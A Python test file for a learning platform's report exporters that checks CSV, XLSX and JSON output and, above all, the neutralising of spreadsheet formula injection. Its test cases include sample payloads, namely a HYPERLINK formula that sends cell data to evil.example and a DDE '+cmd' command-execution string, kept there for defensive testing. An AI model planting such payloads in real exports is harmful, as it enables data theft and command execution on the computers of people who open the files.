"""The spreadsheet module: CSV with BOM, XLSX typed and formula-free, JSON, all streamed."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import zipfile
from datetime import date, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from vle.reports import writers
from vle.reports.writers import neutralise

HEADERS = ["Learner", "Score", "When", "Note"]


def read_csv(chunks) -> list[list[str]]:
    data = b"".join(chunks)
    assert data.startswith("\ufeff".encode())  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("   =1+1", "'   =1+1"),  # spreadsheets that skip leading spaces
        ("-", "'-"),
        # Real numbers stay numbers.
        ("-3", "-3"),
        ("+3", "+3"),
        ("12.5", "12.5"),
        ("-12.5", "-12.5"),
        ("-1,5", "-1,5"),
        ("-1e5", "-1e5"),
        # Ordinary text is untouched.
        ("Ona Žukauskienė", "Ona Žukauskienė"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(cell, written):
    assert neutralise(cell) == written


@given(st.text())
@example("=1+1")
@example(" -x")
def test_neutralised_text_never_starts_a_formula_and_keeps_the_text(text):
    result = neutralise(text)
    assert result in (text, "'" + text)  # nothing lost: at most an apostrophe in front
    if result == text:
        first = text.lstrip(" ")[:1]
        assert first not in writers.FORMULA_STARTS or writers.NUMBER.fullmatch(text)


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_written_as_text_stay_numbers(number):
    assert neutralise(str(number)) == str(number)


@given(st.integers(), st.floats(allow_nan=False, allow_infinity=False))
def test_numeric_cells_are_written_as_plain_numbers(whole, fraction):
    rows = read_csv(writers.csv_chunks(["a", "b"], [[whole, fraction]]))
    assert int(rows[1][0]) == whole and float(rows[1][1]) == fraction


def test_csv_is_utf8_with_bom_typed_and_neutralised():
    rows = [
        ["Ona Žukauskienė", -3, datetime(2025, 3, 1, 14, 5), "=cmd()"],
        ["Paweł Wiśniewski", 12.5, None, 'comma, "quote"\nnewline'],
        ["-5", None, date(2025, 1, 2), "+1"],
    ]
    parsed = read_csv(writers.csv_chunks(HEADERS, rows))
    assert parsed[0] == HEADERS
    assert parsed[1] == ["Ona Žukauskienė", "-3", "2025-03-01 14:05:00", "'=cmd()"]
    assert parsed[2] == ["Paweł Wiśniewski", "12.5", "", 'comma, "quote"\nnewline']
    assert parsed[3] == ["-5", "", "2025-01-02", "+1"]


def csv_module(headers, rows) -> bytes:
    """The CSV Python's csv module writes of the neutralised cells: what the writer
    writes, made the slow way."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in [headers, *rows]:
        writer.writerow([neutralise(cell) if isinstance(cell, str) else cell for cell in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


TRICKY = st.text(
    st.one_of(
        st.sampled_from(list(" ,\"\r\n=+-@\t'1.;")), st.characters(blacklist_categories=["Cs"])
    )
)
CELLS = st.one_of(
    TRICKY, st.none(), st.integers(), st.floats(allow_nan=False, allow_infinity=False)
)


@given(st.integers(1, 4).flatmap(
    lambda width: st.tuples(
        st.lists(TRICKY, min_size=width, max_size=width),
        st.lists(st.lists(CELLS, min_size=width, max_size=width), max_size=6),
    )
))  # fmt: skip
@example(([""], [[""], [None], ["a"]]))  # a lone empty field is written ""
@example((["a", "b"], [["x,y", 'say "hi"'], ["line\r\nbreak", "=1,2"]]))
@example((["a", "b"], [["cr\ronly", "lf\nonly"], ["-3", "+1,5"], [" =1", "'x"]]))
def test_csv_is_what_the_csv_module_writes(table):
    headers, rows = table
    assert b"".join(writers.csv_chunks(headers, rows)) == csv_module(headers, rows)


def test_csv_and_json_stream_without_reading_every_row_first():
    endless = itertools.repeat(["Ona", 1, None, "x"])
    first = next(writers.csv_chunks(HEADERS, endless))
    assert first.startswith("\ufeff".encode()) and len(first) < 100_000
    rows = itertools.repeat({"a": 1})
    assert next(writers.json_chunks(rows)).startswith(b'{"rows": [{"a": 1},')


def test_json_shape_and_total():
    rows = [{"learner_name": "Ona Žukauskienė", "best_score": None}] * 2500
    body = json.loads(b"".join(writers.json_chunks(iter(rows))))
    assert body == {"rows": rows, "total": 2500}
    assert json.loads(b"".join(writers.json_chunks(iter([])))) == {"rows": [], "total": 0}


def sheet_xml(data: bytes, number: int = 1) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return book.read(f"xl/worksheets/sheet{number}.xml").decode("utf-8")


def test_xlsx_cells_are_typed_and_no_formula_is_written():
    rows = [
        ["Ona Žukauskienė", -3, datetime(2025, 3, 1, 14, 5), "=1+2"],
        ["@evil", 12.5, None, "http://example.org"],
    ]
    data = b"".join(writers.xlsx_chunks(HEADERS, rows, widths=[20, 8, 16, 20]))
    assert data[:2] == b"PK"  # a zip: an XLSX workbook
    xml = sheet_xml(data)
    assert "<f>" not in xml  # no formula anywhere
    # Text is text (inline strings in constant-memory mode), never a formula, so it
    # is written as it is: no leading apostrophe.
    assert "<t>=1+2</t>" in xml and "<t>@evil</t>" in xml and "'" not in xml
    # The header row is frozen and filters its columns, down to the last row.
    assert '<autoFilter ref="A1:D3"/>' in xml and 'ySplit="1"' in xml
    assert "Ona Žukauskienė" in xml
    # Numbers are numbers.
    assert re.search(r'<c r="B2"[^>]*><v>-3</v></c>', xml)
    assert re.search(r'<c r="B3"[^>]*><v>12.5</v></c>', xml)
    # A date is a number with a date format (2025-03-01 14:05 is Excel day 45717.59...).
    cell = re.search(r'<c r="C2" s="(\d+)"[^>]*><v>([\d.]+)</v></c>', xml)
    assert cell and cell.group(2).startswith("45717.5")
    # The empty cell is left out; the link stays plain text.
    assert 'r="C3"' not in xml
    assert "<t>http://example.org</t>" in xml
    assert "<hyperlink" not in xml


def test_xlsx_continues_on_a_new_sheet_past_the_row_limit(monkeypatch):
    monkeypatch.setattr(writers, "XLSX_MAX_DATA_ROWS", 3)
    data = b"".join(writers.xlsx_chunks(["n"], ([n] for n in range(1, 8)), sheet_name="Report"))
    first, second, third = (sheet_xml(data, n) for n in (1, 2, 3))
    assert first.count("<v>") == 3 and second.count("<v>") == 3 and third.count("<v>") == 1
    assert "<v>4</v>" in second and "<v>7</v>" in third
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        workbook = book.read("xl/workbook.xml").decode()
    assert 'name="Report"' in workbook and 'name="Report 2"' in workbook
